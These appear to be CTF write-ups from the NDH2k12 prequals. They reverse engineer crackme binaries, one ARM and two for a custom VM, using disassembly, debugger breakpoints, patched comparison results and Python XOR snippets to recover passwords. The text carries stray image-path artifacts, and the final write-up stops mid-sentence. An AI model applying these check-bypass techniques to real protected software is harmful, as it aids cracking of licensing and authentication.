.text:00000FF6                 ADDS    R3, #0xFF.text:00000FF8                 LDR     R2, [SP,#0x140+c_string]     ; our string, result of GetStringUTFChars
.text:00000FFA                 LDRB    R2, [R2]                     ; first char
.text:00000FFC                 STRB    R2, [R3]                     ; store it !

Now let's finish this crackme with the main loop :

It first exits the loop to the final block if the current character (stored in SP+0x20+0xFF) is zero, this is our stop condition. After entering the loop, it also exits and prints "bad password" if the counter1 is greater than 0xC. Otherwise, (this part is the interesting one) it computes a xor between two values in the previously loaded on the stack data, and compares the result with the current password :

.text:00001040                 LDR     R2, [SP,#0x140+counter1]
.text:00001042                 ADD     R3, SP, #0x140+loaded_2810
.text:00001044                 LSLS    R2, R2, #2                       ; R2 = counter1 * 4
.text:00001046                 LDR     R2, [R2,R3]                      ; R2 = loaded_2810[ counter1 * 4 ]
.text:00001048                 LDR     R1, [SP,#0x140+counter1]
.text:0000104A                 ADD     R3, SP, #0x140+loaded_2840
.text:0000104C                 LSLS    R1, R1, #2                       ; R1 = counter1 * 4
.text:0000104E                 LDR     R3, [R1,R3]                      ; R3 = loaded_2840[ counter1 * 4 ]
.text:00001050                 EORS    R2, R3                           ; R2 = loaded_2810[ counter1 * 4 ] ^ loaded_2840[ counter1 * 4 ]
.text:00001052                 LDR     R3, [SP,#0x140+counter1]
.text:00001054                 LDRR1, [SP,#0x140+c_string]
.text:00001056                 ADDS    R3, R1, R3
.text:00001058                 LDRB    R3, [R3]                         ; R3 = c_string[ counter1 ]
.text:0000105A                 CMP     R2, R3                           ; compare R2 / R3

So this is it :)
The last block of the function doesn't do anything really important (increment the counters, update the current char tested at the beginning of the loop, do some xor on some previously loaded on the stack but unused data, ...)

We now have to dump the 2*12 dwords in the .rodata section, at 0x2810 and 0x2840, and xor them to obtain the password :

>>> a = [0x52,0x1A,0x09,0x7B,0x4B,0x5C,0x20,0x72,0x10,0x67,0x5E,0x49]
>>> b = [0x01,0x4E,0x4C,0x3A,0x00,0x08,0x14,0x20,0x44,0x53,0x0C,0x0C]
>>> "".join( [ chr(a[i] ^ b[i]) for i in range(len(a)) ] )

Pwned !


Sunday, March 25 2012 23:33NDH2k12 Prequals - New email from our contact - strange binary file #2

From: Jessica <>
To: w3pwnz <>
Subject: New email from our contact
Attachments : executable2.ndh
Thank you again for your help, our technical staff has a pretty good overview
of the new device designed by Sciteek. Your account will be credited with $500.

You did work hard enough to impress me, your help is still more than welcome,
you will get nice rewards. Our anonymous guy managed to get access to another
bunch of files. Here is one of his emails:

Hi there, see attached file for more information. It was found on

Maybe you can get further than him by exploiting this website.
We also need to get
as much information as possible about the file itself. If you succeed, you will
be rewarded with $2500 for the ndh file and $1000 for the website. Please use
"Sciteek shortener" and "strange binary file #2" titles.


This challenge was another crackme. I called it "VMception", and it was a little harder than the other one =)

First we noticed the string "password is wrong:" (0x8737), and another a little stranger "Unhandled exception occured during execution. Exiting" (0x874b) and search for their references :

0x85f6: movl r0, #0x874b        ; <-- unhandled exception
0x85fb: call 0xfb7a
0x85ff: end
0x8672: movl r0, #0x8737        ; <-- password is wrong
0x8677: call 0xfafe
0x867b: end

The entry point of the crackme is a "jmpl 0x0624", corresponding to the following routine :

0x8627: movl r0, #0x867c        ; <-- source = 0x867c
0x862c: movl r1, #0x86e8
0x8631: sub r1, r0          ; <--0x86e8 - 0x867c = 0x6C = 108
0x8635: call 0xfc64         ; --> 0x829d (memcpy_to_0x000a)0x8639: movl r0, #0x0000
0x863e: movl r1, #0x0035
0x8643: movl r2, #0x0000
0x8648: movl r3, #0x0000
0x864d: call0xfc67
0x8651: call 0xffab         ; --> 0x8600 (ask password)
0x8655: call 0xfed8         ; --> 0x8531 (VMception)
0x8659: movl r0, #0x0000        ; <-- 0x0000 = buffer password
0x865e: call 0xfca9
0x8662: test r0, r0
0x8665: jz 0x000a           ; --> goto password_is_wrong if r0 = 0
0x8668: movl r0, #0x872a
0x866d: call 0xfb90         ; --> pwned \o/
0x8671: end

The first action is to copy 0x6c bytes of data from 0x867c to 0x000a :

niklos@box:~/ndh/jessica4# vmndh -file executable2.ndh -debug
[Console]#> x/x 0x867c:0x6c
0x867c: 0a 06 06 00 00 0b 02 07 4d 06 00 07 02 07 78 07
0x868c: 00 07 09 02 02 07 61 06 01 07 02 07 02 07 01 07
0x869c: 09 02 02 07 72 06 02 07 02 07 43 07 02 07 09 02
0x86ac: 02 07 31 06 03 07 02 07 45 07 03 07 09 02 02 07
0x86bc: 30 06 04 07 02 07 03 07 04 07 09 02 02 07 4c 06
0x86cc: 05 07 02 07 7f 07 05 07 09 02 02 07 64 06 06 07
0x86dc: 02 07 0f 07 06 07 09 02 02 00 01 0b

So far, we've got no idea of what the hell it could be, except that's probably vicious... We need to go deeper :)
Then, a 8bytes password is read, and stored in 0x0000 (which is quite surprising when you forget that you're in a very simple virtual machine). Next is a quite bigroutine, but quite easily understandable:

0x8531: push r2
0x8534: call 0xfdf9         ; --> 0x8331 (code = get_next_ element)
0x8538: cmpb r0, #11        ; --> code == 0xb
0x853c: jnz 0x0003
0x853f: jmpl 0x008f             ; --> goto 0x85d1 (BREAK)
0x8542: cmpb r0, #01        ; --> code == 0x01
0x8546: jnz 0x0007
0x8549: call 0xfeec
0x854d: jmpl 0xffe4
0x8550: cmpb r0, #02        ; --> code == 0x2
0x8554: jnz 0x00070x8557: call 0xff0e
0x855b: jmpl 0xffd6         ; --> loop
0x85c0: cmpb r0, #0a            ; --> code == 0xa
0x85c4: jnz 0x0007
0x85c7: call 0xff5d
0x85cb: jmpl 0xff66         ; --> loop
0x85ce: jmpl 0x0025         ; --> 0x85f6 (unhandled_exception)
.label BREAK:
0x85f5: ret

First, this routine get an opcode from the buffer we previously copied in 0x000a, by calling 0x8331. Then, there's a switch/case test on this code, with a registered action for each from 0x00 to 0x0a, and 0x0b is the code signifying the end of the routine.

We now have a better understanding of the crackme : VMception : a VM inside a VM, and the buffer in 0x000a contains our program (we already see that most bytes are in [0x0 - 0xa] and it ends by 0xb.

Now comes the fun part when you trace the program opcode by opcode to understand the corresponding subroutines...
Here is what you can say then :

  • The password is actually 7bytes long, since the 8th byte is overitten (by a value used to check a byte of the password btw)
  • The password is checked one char at the time, and a single check use several opcodes
  • Opcodes used to do a single check are : 0x2 (routine 0x8469) 0x6 (routine 0x83a4), 0x7 (routine 0x8495), and 0x9 (routine 0x84fe)
  • The program-counter is stored at 0x9 (just before the program itself)

Let's check the subroutines of opcodes 0x02, 0x6, 0x7 and 0x9, starting with 0x2 :0x8472: call 0xfebb     ; --> 0x8331  (get_next_element = always 7)
0x8476: mov r1, r0
0x847a:  call 0xfeb3        ; --> 0x8331 (get_next_element = X, a value outside [0,a], like 0x4d, 0x78, ...)
0x847e: mov r2, r0
0x8482: mov r0, r1
0x8486: mov r1, r2
0x848a: call 0xfe90     ; --> 0x831e (write_r0_at_r1 : writes the )
0x8494: ret

So this routine retrieves a value that is not an opcode, and stores it at 0x7.
Now 0x6 :

0x83b0: call 0xff7d     ; --> 0x8331 (get_next_element = index i in the password of the char to be tested)
0x83b4: mov r3, r0
0x83b8: call 0xff75     ; --> 0x8331 (get_next_ element = always 7)
0x83bc: call 0xff4b     ; --> 0x830b (return *R0 == get [0x07])
0x83c0: mov r2, r0
0x83c4: mov r0, r3
0x83c8: call 0xff3f     ; --> 0x830b (return *R0 = get password[i], the value of the char to be tested)
0x83cc: xor r0, r2      ; --> XOR
0x83d0: mov r1, r0
0x83d4: mov r0, r3
0x83d8: call 0xff42     ; --> 0x831e (write_r1_at_r0 = write the xored value at password[i])
0x83e4: ret

This one takes the previous value at 0x7 and XOR the current byte of the password with it.
Now 0x7 :

0x849e: call 0xfe8f     ; --> 0x8331 (get_next_element = index i in the password of the char to be tested)
0x84a2: call 0xfe65     ; --> 0x830b (return *R0 = get password[i], the value of the char to be tested)
0x84a6: mov r1, r0
0x84aa: call 0xfe83     ; --> 0x8331 (get_next_ element = always 7)
0x84ae: call 0xfe59     ; --> 0x830b (return *R0 == get [0x07])
0x84b2: mov r2, r0
0x84b6: cmp r1, r2      ; --> CMP password[i], [0x7]
0x84ba: movl r1, #0x00  ; --> R1 = 00x84bf: jnz 0x0002
0x84c2: inc r1          ; --> R1 = 1
0x84c4: movl r0, #0x08  ; --> R0 = 8
0x84c9: call 0xfe51     ; --> 0x831e (write_r0_at_r1 = writes the result of CMP at 0x8)
0x84d3: ret

This routine compares the current byte of the password with some value stored in 0x7.
And finally 0x9 :

0x8504: call 0xfe29     ; --> 0x8331 (get_next_element = always 0x2)
0x8508: mov r1, r0
0x850c: movl r0, #0x0008    ; --> R0 = 8
0x8511: call 0xfdf6     ; --> 0x830b (return *R0 = get [0x08])
0x8515: test r0, r0
0x8518: jnz 0x0008
0x851b: mov r0, r1
0x851f: call 0xfe30     ; --> IF [0x08] == 0 THEN : 0x8353 (change_program_counter by 0x2)
0x8527: ret

This one changes the program counter by 0x2 if the previous comparison fails.

We now know how one byte of thepassword is checked :

  • 0x02 : store next element at 0x7
  • 0x06 : XOR password[i] and [0x7]
  • 0x02 : store next element at 0x7
  • 0x07 : compare xored value and [0x7] and write the result at 0x8
  • 0x09 : f*ck up program counter if [0x8] is 0

So with 3 breakpoints in routines of opcodes 0x6, 0x7 and 0x9, we can get the xor keys and the xored values :

niklos@box:~/ndh/jessica4# vmndh -file executable2.ndh -debug
[Console]#> bp 0x83c0
Breakpoint set in 0x83c0
[Console]#> bp 0x84b6
Breakpoint set in 0x84b6
[Console]#> bp 0x8515
Breakpoint set in 0x8515
[Console]#> run
[SYSCALL output]: Please enter Sciteek admin password:
[BreakPoint 1 - 0x83c0]
0x83c0 > mov r2, r0
[Console]#> info reg
[r0]: 004d      ; --> first xor key is 0x4d
[Console]#> run
[BreakPoint 2 - 0x84b6]
0x84b6 > cmp r1, r2
[Console]#> info reg
[r0]: 0078      ; --> first xored value is 0x78
[Console]#> run
[BreakPoint 3 - 0x8515]
0x8515 > test r0, r0
[Console]#> set r1=1    ; --> set the result of the comparison to 1
r1 = 0x0001
[Console]#> run


And so on for the 7 bytes of the password :)

Now we xor all this and get the password :>>> a = [0x4d, 0x61, 0x72, 0x31, 0x30, 0x4c, 0x64]
>>> b = [0x78, 0x02, 0x43, 0x45, 0x03, 0x7f, 0x0f]
>>> print ''.join([ chr(a[i] ^ b[i]) for i in range(len(a)) ])

Bazinga \o/

NDH2k12 Prequals - unknown binary, need your help - Strange binary file

From: Jessica <>
To: w3pwnz <>
Subject: unknown binary, need your help
Attachments : executable1.ndh
Hello again,

Thank you very much for your help. It is amazing that our technical staff and
experts did not manage to recover any of it: the password sounds pretty weak.
I will notify our head of technical staff.Anyway, I forwarded them the file for further investigation. Meanwhile, we got
fresh news from our mystery guy. He came along with an intersting binary file.
It just looks like an executable, but it is not ELF nor anything our experts
would happen to know or recognize. Some of them we quite impressed byyour skills
and do think you may be able to succeed here. I attached the file, if you discover
anything, please send me an email entitled "Strange binary file".

This will be rewarded, as usual. By the way, your account has just been credited
with $100.


We first noticed the two strings "Good password" and "Bad password" at the end of the file. An easy way to attack a crackme is to search for string references in the code. The disassembly from vmndh tells us that the "Bad password" string is loaded in 0x8480, and referenced from

0x82d4: movl r0, #0x8480
0x82d9: call 0xffdd
0x82dd: retThis is the "bad boy" case, and whatever "call 0xffdd" is, it must be the impression routine. There were two methods to get the actual adresses of the calls: check them in the debugger, or patch the disassembled output to translate relative calls into absolute ones. This is what does.

With it, we can see that the address 0x82d4 is called 9 times between 0x82e8 and 0x83e1, just after "jz" instructions.

A first test is made, that checks the length of the input:

